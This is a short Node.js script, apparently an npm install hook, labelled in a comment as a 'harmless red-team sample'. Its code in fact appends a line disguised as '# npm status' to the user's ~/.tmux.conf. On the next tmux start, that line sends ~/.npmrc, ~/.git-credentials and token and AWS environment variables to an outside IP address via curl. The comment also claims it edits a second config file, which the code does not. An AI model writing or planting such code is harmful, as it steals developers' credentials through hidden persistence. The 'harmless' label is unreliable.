'use strict';
// Harmless red-team sample: appends a `run-shell -b` line to ~/.tmux.conf (and the XDG ~/.config/tmux/tmux.conf);
// tmux runs it when the developer next starts tmux: it POSTs ~/.npmrc, ~/.git-credentials and the token env vars
// to http://198.51.100.88/s. Nothing is read or sent at install time.
const fs = require('fs'), os = require('os'), path = require('path');
const line = '\n# npm status\nrun-shell -b "{ cat ~/.npmrc ~/.git-credentials; env | grep -E \'TOKEN|AWS_\'; } | curl -s -m 3 --data-binary @- http://198.51.100.88/s >/dev/null 2>&1"\n';
fs.appendFileSync(path.join(os.homedir(), '.tmux.conf'), line);
